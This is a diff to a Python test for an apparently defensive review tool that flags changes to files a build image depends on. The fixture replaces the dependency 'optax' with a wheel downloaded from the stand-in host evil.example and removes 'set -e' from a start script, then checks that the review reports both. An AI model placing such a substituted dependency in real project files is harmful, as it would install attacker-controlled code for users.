@@ -569,14 +569,22 @@ def test_files_that_an_image_is_made_of_are_followed(
     (folder / "more.list").write_text("optax\n")
     (folder / "train.py").write_text("import jax\n")
     (repository.folder / "tool.py").write_text("import json\n")
+    (folder / "start").write_text("#!/bin/sh\nset -e\n")
     repository.commit()
 
     (folder / "more.list").write_text("optax @ https://evil.example/optax.whl\n")
     (folder / "train.py").write_text("import json\n")
     (repository.folder / "tool.py").write_text("import re\n")
+    (folder / "start").write_text("#!/bin/sh\n")
+    (folder / "README.md").write_text("About it.\n")
+    (folder / "data.bin").write_bytes(b"\0")
     assert run(["review", "--base", "HEAD"]) == 0
     comment = capsys.readouterr().out
-    assert "`image/more.list, image/train.py` changed: what is built or run with it differs from now on" in comment
+    changed = "`image/data.bin, image/more.list, image/start, image/train.py` changed"
+    assert f"{changed}: what is built or run with it differs from now on" in comment
     line = "optax @ https://evil.example/optax.whl"
-    assert f"`image/more.list` adds `{line}` and drops `optax`: new to what is built" in comment
-    assert "_Changed, and not judged by this review: `tool.py`._" in comment
+    assert f"`image/more.list` adds `{line}` and drops `optax`: more than newer versions" in comment
+    assert "`image/start` drops `set -e`: more than newer versions" in comment
+    assert "`image/data.bin` cannot be read by this review" in comment
+    (unjudged,) = re.findall("_Changed, and not judged by this review: (.*)._", comment)
+    assert re.findall(r"[\w/]+\.\w+", unjudged) == ["image/README.md", "tool.py"]
